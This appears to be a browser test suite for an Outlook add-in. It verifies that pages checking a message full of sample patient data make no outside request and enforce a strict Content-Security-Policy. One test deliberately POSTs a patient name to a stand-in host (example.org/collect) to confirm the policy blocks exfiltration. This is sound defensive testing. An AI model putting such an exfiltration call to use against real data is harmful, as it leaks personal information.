/**
 * No egress, in a real Chromium on the built pages (`npm test` builds dist/ first):
 * - the preview page, checking a message full of personal data, makes no request that leaves
 *   the local server and none that carries message text (URL, headers or body);
 * - taskpane.html and preview.html carry a Content-Security-Policy that allows scripts only from
 *   the page's own origin and Microsoft's office.js host and connections only to its own origin;
 *   the pages boot under it with no violation, and it really blocks an outside fetch.
 */
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { chromium, type Browser, type BrowserContext, type Frame, type Page, type Request } from "playwright-core";
import { CHROMIUM_ARGS, findBrowser } from "../browser/support/findBrowser";
import { DIST, OFFICE_JS_DIST, startStaticServer } from "../browser/support/staticServer";

jest.setTimeout(90_000);

const CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const OFFICE_HOST = "https://appsforoffice.microsoft.com";
/** office.js frames Microsoft's telemetry proxy when it can; the CSP refuses it on purpose (see
 * docs/hardening.md). Any other violation fails the tests. */
const EXPECTED_BLOCK = /^frame-src https:\/\/telemetryservice\.firstpartyapps\.oaspapps\.com(\/|$)/;
const unexpected = (violations: string[]) => violations.filter((v) => !EXPECTED_BLOCK.test(v));

/** Words of the message that must never appear in a request. */
const SECRETS = ["Kelly Brennan", "943 476 5919", "9434765919", "12/03/1985", "S40 1AA", "Brennan", "sam.jones@gmail.com"];
const SUBJECT = "KPC for Kelly Brennan DOB 12/03/1985";
const BODY =
  "Please can you check Kelly Brennan, DOB 12/03/1985, NHS number 943 476 5919, of 22 Station Street, Chesterfield S40 1AA. " +
  "She is known to the community mental health team.";

let browser: Browser;
let server: { origin: string; close: () => Promise<void> };

beforeAll(async () => {
  if (!existsSync(path.join(DIST, "preview.html"))) throw new Error("dist/ is missing: run npm run build:dev first (npm test does).");
  server = await startStaticServer();
  browser = await chromium.launch({ executablePath: findBrowser(), headless: true, args: CHROMIUM_ARGS });
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

interface Recorded {
  url: string;
  headers: Record<string, string>;
  body: string;
}

/** A context that records every request (page, workers, beacons) and lets only local ones through;
 * office.js's CDN is answered from the package, like the other browser tests. */
async function recordingContext(): Promise<{ context: BrowserContext; requests: Recorded[]; violations: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1100, height: 800 } });
  const requests: Recorded[] = [];
  const record = (r: Request) => requests.push({ url: r.url(), headers: r.headers(), body: r.postData() ?? "" });
  context.on("request", record);
  await context.route("**/*", async (route) => {
    const url = route.request().url();
    if (url.startsWith(server.origin)) return route.continue();
    if (url.startsWith(CDN)) {
      const file = path.join(OFFICE_JS_DIST, url.slice(CDN.length).split("?")[0] ?? "");
      if (existsSync(file)) return route.fulfill({ body: readFileSync(file), contentType: "text/javascript" });
      return route.fulfill({ status: 404, body: "" });
    }
    return route.abort();
  });
  const violations: string[] = [];
  await context.exposeBinding("__reportCspViolation", (_source, text: string) => violations.push(text));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      (window as unknown as { __reportCspViolation(t: string): void }).__reportCspViolation(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
  return { context, requests, violations };
}

/** The frame showing the task pane's verdict: the page itself, or the pane's iframe in it. */
async function paneFrame(page: Page): Promise<Frame> {
  for (let i = 0; i < 200; i++) {
    for (const frame of page.frames()) if ((await frame.locator('[data-testid="verdict"]').count().catch(() => 0)) > 0) return frame;
    await page.waitForTimeout(50);
  }
  throw new Error("no frame shows the task pane's verdict");
}

/** A compose field of the preview, by its accessible name. */
const field = (page: Page, name: RegExp) => page.getByRole("textbox", { name }).first();

describe("no egress from the preview page", () => {
  it("checks a message full of personal data without any request leaving localhost or carrying its text", async () => {
    const { context, requests, violations } = await recordingContext();
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await page.goto(`${server.origin}/preview.html`);
    const pane = await paneFrame(page);

    await field(page, /^To$/).fill("Sam Jones <sam.jones@gmail.com>");
    await field(page, /^To$/).press("Enter");
    await field(page, /^Subject$/).fill(SUBJECT);
    await field(page, /^(Body|Message)$/).fill(BODY);
    const again = pane.getByRole("button", { name: "Check again" });
    if ((await again.count()) > 0) await again.first().click();
    await pane.waitForFunction(() => document.querySelector('[data-testid="verdict"]')?.getAttribute("data-verdict") === "block");
    // The pane saw the typed message (so the test really sent it through the pane).
    await pane.getByText(/Kelly Brennan/).first().waitFor();
    // Let anything deferred (office.js's timers, idle callbacks, beacons) happen before judging.
    await page.waitForTimeout(2500);
    await page.close();
    await context.close();

    expect(requests.length).toBeGreaterThan(0);
    const outside = requests.filter((r) => !r.url.startsWith(`${server.origin}/`));
    expect(outside.map((r) => r.url)).toEqual([]);
    for (const r of requests) {
      const haystack = [r.url, decodeURIComponent(r.url.replace(/\+/g, " ")), JSON.stringify(r.headers), r.body].join("\n");
      for (const secret of SECRETS) expect({ url: r.url, leaks: haystack.includes(secret) ? secret : null }).toEqual({ url: r.url, leaks: null });
    }
    expect(unexpected(violations)).toEqual([]);
    expect(errors).toEqual([]);
  });
});

/** The CSP a built page declares, directive → sources. */
function cspOf(file: string): Record<string, string[]> {
  const html = readFileSync(path.join(DIST, file), "utf8");
  const m = /<meta\s+http-equiv="?Content-Security-Policy"?\s+content="([^"]*)"/i.exec(html);
  if (!m) throw new Error(`${file} has no Content-Security-Policy meta tag`);
  const out: Record<string, string[]> = {};
  for (const d of (m[1] as string).split(";")) {
    const [name, ...sources] = d.trim().split(/\s+/);
    if (name) out[name] = sources;
  }
  // The CSP must come before any script, or the script is not covered.
  expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));
  return out;
}

describe("Content-Security-Policy", () => {
  it("taskpane.html allows office.js from Microsoft's CDN", () => {
    expect(cspOf("taskpane.html")["script-src"]).toEqual(["'self'", OFFICE_HOST]);
  });

  const pages = ["taskpane.html", "preview.html", "preview-pane.html"].filter((f) => existsSync(path.join(DIST, f)));
  it.each(pages)("%s allows scripts from itself and office.js's host only, and connections to itself only", (file) => {
    const csp = cspOf(file);
    expect(csp["default-src"]).toEqual(["'self'"]);
    expect(csp["script-src"]).toContain("'self'");
    expect((csp["script-src"] ?? []).filter((s) => s !== "'self'" && s !== OFFICE_HOST)).toEqual([]);
    expect(csp["connect-src"]).toEqual(["'self'"]);
    expect(csp["object-src"]).toEqual(["'none'"]);
    expect(csp["base-uri"]).toEqual(["'none'"]);
    for (const sources of Object.values(csp)) {
      expect(sources).not.toContain("*");
      expect(sources).not.toContain("'unsafe-eval'");
      expect(sources.filter((s) => s === "https:" || s === "http:")).toEqual([]);
    }
  });

  it("taskpane.html boots with office.js under its CSP with no unexpected violation, and the CSP blocks an outside fetch", async () => {
    const { context, violations } = await recordingContext();
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await page.goto(`${server.origin}/taskpane.html`);
    await page.getByText("Open SafeShare from a message you are writing in Outlook.").waitFor();
    expect(unexpected(violations)).toEqual([]);
    expect(errors).toEqual([]);

    const outcome = await page.evaluate(() =>
      fetch("https://example.org/collect", { method: "POST", body: "Kelly Brennan" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    expect(outcome).toBe("refused");
    // The violation is reported through an exposed binding: give it a moment to arrive.
    for (let i = 0; i < 100 && unexpected(violations).length === 0; i++) await page.waitForTimeout(20);
    expect(unexpected(violations)).toEqual([expect.stringMatching(/^connect-src https:\/\/example\.org/)]);
    await context.close();
  });
});
